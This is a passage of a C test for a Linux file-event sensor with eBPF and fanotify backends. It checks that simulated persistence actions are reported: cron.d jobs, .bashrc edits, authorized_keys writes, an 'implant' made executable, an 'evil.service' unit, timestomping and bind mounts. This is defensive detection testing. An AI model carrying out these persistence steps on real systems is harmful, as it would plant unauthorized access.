		/* bpf_reads: the "r:" check through the helper (the fallback) */
		family_file_bpf_direct_loads(!reads);
#else
		printf(
		    "SKIP: built without eBPF (cmake/bpf.cmake found no clang/bpftool/libbpf)\n");
		return FT_SKIP;
#endif
	}
	ft_start(&t, ops, watch);
#ifdef YM_FAMILY_BPF
	if (bpf)
		ft_expect_reads("file=bpf r: check", family_file_bpf_reads(t.f), reads);
#endif

	t0 = ft_now_ns();
	run(1, pid);
	t1 = ft_now_ns();
	usleep(300 * 1000); /* read later: bpf's time is still the call's */
	e = ft_wait(&t, 3000, "Action", "create", "TargetFilename", P("etc/cron.d/job"), NULL);
	FT_CHECK(e != NULL);
	FT_CHECK(e->category == EVCAT_FILE_EVENT);
	ft_expect(e, "ProcessId", pid);
	ft_expect(e, "Image", img);
	ft_expect(e, "User", "root");
	ft_expect(e, "UserId", "0");
	if (bpf)
		ft_expect_time(e, t0, t1);
	if (!bpf) {
		e = ft_wait(&t, 3000, "Action", "write", "TargetFilename", P("etc/cron.d/job"),
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
	}

	run(2, pid);
	e = ft_wait(&t, 3000, "Action", "rename", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "TargetFilename", P("etc/cron.d/job2"));
	ft_expect(e, "SourceFilename", P("etc/cron.d/job"));
	ft_expect(e, "ProcessId", pid);

	run(3, pid);
	e = ft_wait(&t, 3000, "Action", chmod_action, NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "TargetFilename", P("etc/cron.d/job2"));
	ft_expect(e, "Mode", "0600");
	ft_expect(e, "ProcessId", pid);

	run(4, pid);
	e = ft_wait(&t, 3000, "Action", "unlink", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "TargetFilename", P("etc/cron.d/job2"));
	ft_expect(e, "ProcessId", pid);

	run(5, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.bashrc"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Action", bpf ? "create" : "write"); /* O_CREAT | O_APPEND */
	ft_expect(e, "ProcessId", pid);

	run(6, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("tmp/implant"), "Action", chmod_action, NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Mode", "0755");
	ft_expect(e, "ProcessId", pid);

	run(7, pid);
	ft_pump(&t, 300); /* the new folder's mark */
	run(8, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/newdir/conf"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.ssh/authorized_keys"), "Action",
		    "create", NULL);
	FT_CHECK(e != NULL);

	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "TargetFilename", P("home/u/notes"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/x"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("tmp/data"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/newdir"), NULL) == 0);
	FT_CHECK(ft_count(&t, "Action", "rename", NULL) == 1);
	FT_CHECK(ft_count(&t, "Action", "unlink", NULL) == 1);

	/* the collector sheds: each refused event is a counted drop */
	{
		struct family_stats fs;
		uint64_t before;

		t.ops->stats(t.f, &fs);
		before = fs.drops;
		t.shed = 1;
		run(9, pid);
		ft_pump(&t, 500);
		t.shed = 0;
		t.ops->stats(t.f, &fs);
		FT_CHECK(fs.drops >= before + 1);
		FT_CHECK(ft_count(&t, "TargetFilename", P("etc/shed"), NULL) == 0);
	}
	/* the relative calls of a process gone before the module read them:
	 * every path whole (bpf: the folders resolved in the kernel at the
	 * call; fanotify: by the folder's handle) */
	relative_then_exit();
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/rel1"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/rel1"), "Action", "unlink", NULL);
	FT_CHECK(e != NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.ssh/rel2"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.ssh/rel3"), "Action", "rename", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "SourceFilename", P("home/u/.ssh/rel2"));

	/* a watched tree made after the start: ~/.ssh of an account that had
	 * none, then a key written in it; ~/.config/systemd made with a unit
	 * in it at once (fanotify: reported when the new folder is marked,
	 * without its process) */
	made_then_written(12, 13, "home/v/.ssh/authorized_keys");
	run(14, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/v/.config/systemd/evil.service"), "Action",
		    "create", NULL);
	FT_CHECK(e != NULL);
	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "TargetFilename", P("home/v/.config/other/x"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("home/v/.ssh"), NULL) == 0);
	made_then_written(15, 16, "home/v/.ssh/authorized_keys2");

	/* a folder renamed: what is written in it is named by its new path
	 * (fanotify: its mark's path follows the rename); moved out of the
	 * watched paths, it is no longer reported */
	run(17, pid);
	ft_pump(&t, 300);
	run(18, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/moved/conf2"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	run(19, pid);
	ft_pump(&t, 300);
	run(20, pid);
	ft_pump(&t, 500);
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/newdir/conf2"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/moved/conf3"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/moved/conf3"), NULL) == 0);

	/* a watched file moved out of the watched folders: the rename, with
	 * where it went (fanotify: the file's handle, the kernel naming only
	 * the old side) */
	run(21, pid);
	ft_pump(&t, 300);
	run(22, pid);
	e = ft_wait(&t, 3000, "Action", "rename", "SourceFilename", P("etc/cron.d/away"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "TargetFilename", P("other/away"));
	ft_expect(e, "ProcessId", pid);

	/* links: the new name in a watched folder (bpf: with the file
	 * linked, or the symbolic link's content; fanotify: a create) */
	run(23, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/sl"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Action", bpf ? "symlink" : "create");
	ft_expect(e, "LinkTarget", bpf ? "/tmp/ym-nowhere/job" : NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.ssh/hl"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Action", bpf ? "link" : "create");
	ft_expect(e, "SourceFilename", bpf ? P("other/away") : NULL);
	ft_expect(e, "ProcessId", pid);
	ft_expect(e, "IoUring", NULL);

	/* io_uring: the same as system calls would give, marked (bpf) */
	{
		struct io_uring_params p;
		int fd;

		memset(&p, 0, sizeof(p));
		fd = (int)syscall(__NR_io_uring_setup, 2, &p);
		if (fd < 0) {
			printf("note: io_uring unavailable here (%s): its operations not checked\n",
			       strerror(errno));
			goto uring_done;
		}
		close(fd);
		uring = 1;
	}
	run(24, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/ur"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	ft_expect(e, "IoUring", bpf ? "true" : NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/ur2"), "Action", "rename", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "SourceFilename", P("etc/cron.d/ur"));
	ft_expect(e, "IoUring", bpf ? "true" : NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/ur2"), "Action", "unlink", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	/* the create that failed (EEXIST): nothing */
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/cron.d/ur2"), "Action", "create", NULL) ==
		 0);
	run(25, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/usl"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Action", bpf ? "symlink" : "create");
	ft_expect(e, "LinkTarget", bpf ? "../../other/away" : NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("home/u/.ssh/uhl"), NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Action", bpf ? "link" : "create");
	ft_expect(e, "IoUring", bpf ? "true" : NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/skip"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "IoUring", bpf ? "submitted" : NULL);
	ft_expect(e, "ProcessId", pid);
uring_done:

	/* through a descriptor: bpf names the file from it (fanotify: attrib) */
	run(26, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/fd"), "Action", chmod_action, NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "Mode", bpf ? "0640" : "0640");
	ft_expect(e, "ProcessId", pid);
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/fd"), "Action", "chown",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "Owner", "0:0");
		ft_expect(e, "ProcessId", pid);
	}
	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/fd"), NULL) == 0);

	/* times set on purpose (bpf: the values; fanotify: attrib) */
	run(27, pid);
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/old"), "Action", "timestamp",
			    "AccessTime", "2019-03-04T05:06:07Z", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ModificationTime", "2019-03-04T05:06:07Z");
		ft_expect(e, "ProcessId", pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/old"), "Action", "timestamp",
			    "ModificationTime", "2020-01-02T03:04:05Z", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "AccessTime", NULL);
		ft_pump(&t, 300);
		/* the touch to now: not reported */
		FT_CHECK(ft_count(&t, "TargetFilename", P("etc/cron.d/old"), "Action", "timestamp",
				  NULL) == 2);
	} else {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/old"), "Action", "attrib",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
	}

	/* truncate(2) and mounts over watched files (bpf only: fanotify sees
	 * neither; docs/sensors.md) */
	if (bpf) {
		run(28, pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/fd"), "Action", "write",
			    "Size", "3", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
		run(29, pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/old"), "Action", "mount",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "MountSource", P("other/away"));
		ft_expect(e, "MountFlags", "bind");
		ft_expect(e, "MountType", NULL);
		ft_expect(e, "ProcessId", pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/fd"), "Action", "mount",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "MountFlags", "move_mount");
		ft_expect(e, "ProcessId", pid);
		/* on the host: no MountNamespace */
		ft_expect(e, "MountNamespace", NULL);
		run(30, pid);
		{
			char nsp[64];
			struct stat ns;

			snprintf(nsp, sizeof(nsp), "/proc/%s/ns/mnt", pid);
			FT_CHECK(stat(nsp, &ns) == 0);
			snprintf(nsp, sizeof(nsp), "%lu", (unsigned long)ns.st_ino);
			e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/old"), "Action",
				    "mount", "MountNamespace", nsp, NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "MountFlags", "bind,ro");
			snprintf(nsp, sizeof(nsp), "/proc/%s", pid);
			e = ft_wait(&t, 3000, "TargetFilename", nsp, "Action", "mount", NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "MountSource", P("other"));
			e = ft_wait(&t, 3000, "TargetFilename", P("other/mnt"), "Action", "mount",
				    NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "MountSource", "/dev/ym-disk");
			ft_expect(e, "MountType", "tmpfs");
			ft_pump(&t, 300);
			FT_CHECK(ft_count(&t, "MountSource", "ym-tmp", NULL) == 0);
		}
		ft_pump(&t, 300);
		FT_CHECK(ft_count(&t, "TargetFilename", P("other/fd"), NULL) == 0);
	}

	/* an "r:" file: its opens for reading (bpf: by inode; fanotify: none,
	 * W3620), again after it was replaced by a rename over it (a new
	 * inode, given to the kernel at the next tick) */
	run(35, pid);
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/secret"), "Action", "read", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
		ft_expect(e, "Image", img);
	}
	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "Action", "read", NULL) == (bpf ? 1 : 0));
	put("etc/secret.new", "hash2\n", 0, 0600);
	FT_CHECK(rename(P("etc/secret.new"), P("etc/secret")) == 0);
	ft_pump(&t, 1200); /* a tick */
	run(36, pid);
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/secret"), "Action", "read",
			    "ProcessId", pid, NULL);
		FT_CHECK(e != NULL);
	}
	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "Action", "read", NULL) == (bpf ? 2 : 0));
	if (uring) {
		/* the same read through io_uring (bpf: at its completion, from
		 * the descriptor or the fixed-file slot the open made), and a
		 * log cut by an O_TRUNC open through a ring */
		run(37, pid);
		if (bpf) {
			e = ft_wait(&t, 3000, "TargetFilename", P("etc/secret"), "Action", "read",
				    "IoUring", "true", NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "ProcessId", pid);
			ft_expect(e, "Image", img);
			e = ft_wait(&t, 3000, "TargetFilename", P("log/ut.log"), "Action", "write",
				    "Truncated", "true", NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "IoUring", "true");
			ft_expect(e, "ProcessId", pid);
		}
		ft_pump(&t, 300);
		/* both opens of the "r:" file; the open for writing only and
		 * the log the open made: not reported */
		if (bpf) {
			e = ft_wait(&t, 3000, "TargetFilename", P("etc/secret"), "Action", "read",
				    "IoUring", "submitted", NULL);
			FT_CHECK(e != NULL);
			ft_expect(e, "ProcessId", pid);
		}
		FT_CHECK(ft_count(&t, "Action", "read", NULL) == (bpf ? 5 : 0));
		FT_CHECK(ft_count(&t, "Action", "read", "IoUring", "true", NULL) == (bpf ? 2 : 0));
		FT_CHECK(ft_count(&t, "TargetFilename", P("log/ut.log"), NULL) == (bpf ? 1 : 0));
		FT_CHECK(ft_count(&t, "TargetFilename", P("log/un.log"), NULL) == 0);
	}

	/* a watched folder named another way (bpf: an open's file compared
	 * with the watched folders by identity, a path through ".."
	 * resolved; fanotify: the folders are marked) */
	run(38, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd1"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd2"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd3"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd8"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/lout"), "Action", "create",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
	}
	e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd5"), NULL);
	FT_CHECK(e != NULL);
	if (bpf) {
		ft_expect(e, "Action", "rename");
		ft_expect(e, "SourceFilename", P("other/y"));
	}
	if (uring) {
		run(39, pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("etc/cron.d/dd4"), "Action", "create",
			    NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
		ft_expect(e, "IoUring", bpf ? "true" : NULL);
	}
	/* a folder watched by a name through a link: named so, whichever
	 * name the writer used */
	run(40, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("alias/a1"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	e = ft_wait(&t, 3000, "TargetFilename", P("alias/a2"), "Action", "create", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	/* bpf: the executable's mode comes from the kernel at the open (no
	 * stat of the path, which is gone by then) */
	if (bpf) {
		run(41, pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("tmp/quick"), "Action", "create", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
	}
	ft_pump(&t, 300);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/dd6"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/lnk2/dd6"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("other/dd7"), NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("tmp/outfile"), NULL) == 0);

	compat_step(bpf);
	fuse_hold_step(bpf);

	/* a "d:" tree: what loses content only (fanotify: deletes and moves;
	 * it cannot tell a truncation from a write) */
	run(34, pid);
	e = ft_wait(&t, 3000, "TargetFilename", P("log/old.log"), "Action", "unlink", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "ProcessId", pid);
	e = ft_wait(&t, 3000, "SourceFilename", P("log/moved.log"), "Action", "rename", NULL);
	FT_CHECK(e != NULL);
	ft_expect(e, "TargetFilename", P("other/moved.log"));
	if (bpf) {
		e = ft_wait(&t, 3000, "TargetFilename", P("log/app.log"), "Action", "write",
			    "Truncated", "true", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
		e = ft_wait(&t, 3000, "TargetFilename", P("log/cut.log"), "Action", "create",
			    "Truncated", "true", NULL);
		FT_CHECK(e != NULL);
		e = ft_wait(&t, 3000, "TargetFilename", P("log/new.log"), "Action", "write", "Size",
			    "0", NULL);
		FT_CHECK(e != NULL);
		FT_CHECK(ft_count(&t, "TargetFilename", P("log/new.log"), NULL) == 1);
	}
	ft_pump(&t, 300);
	/* the append, and (bpf) the new file made with O_TRUNC */
	FT_CHECK(ft_count(&t, "TargetFilename", P("log/app.log"), "Truncated", NULL, NULL) == 0);
	FT_CHECK(ft_count(&t, "TargetFilename", P("log/new.log"), "Action", "create", NULL) == 0);
	if (!bpf)
		FT_CHECK(ft_count(&t, "TargetFilename", P("log/cut.log"), NULL) == 0);

	/* a home made after the start (as useradd -m makes one), then a key
	 * put in its new ~/.ssh (bpf: matched under any home; fanotify: /home
	 * is marked, the new home's folders as they come) */
	{
		char home[64], key[96];

		snprintf(home, sizeof(home), "/home/ym-late-%d", (int)getpid());
		late_home_set(home);
		run(31, pid);
		ft_pump(&t, 300);
		run(32, pid);
		ft_pump(&t, 300);
		run(33, pid);
		snprintf(key, sizeof(key), "%s/.ssh/authorized_keys", home);
		e = ft_wait(&t, 3000, "TargetFilename", key, "Action", "create", NULL);
		FT_CHECK(e != NULL);
		ft_expect(e, "ProcessId", pid);
		reap();
		late_home_rm();
		late_home_set(NULL);
	}

	/* the stop (ops->quiesce, then the last polls): a write before it is
	 * read, one after it is not queued at all */
	run(10, pid);
	ft_final(&t);
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/cron.d/before"), NULL) >= 1);
	run(11, pid);
	ft_final(&t);
	FT_CHECK(ft_count(&t, "TargetFilename", P("etc/cron.d/after"), NULL) == 0);

	reap();
	ft_stop(&t);
	{
		char cmd[600];

		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
		FT_CHECK(system(cmd) == 0);
	}
	printf("ok: file=%s (%d events)\n", reads ? "bpf_reads" : ops->mode, t.nev);
	return 0;
}
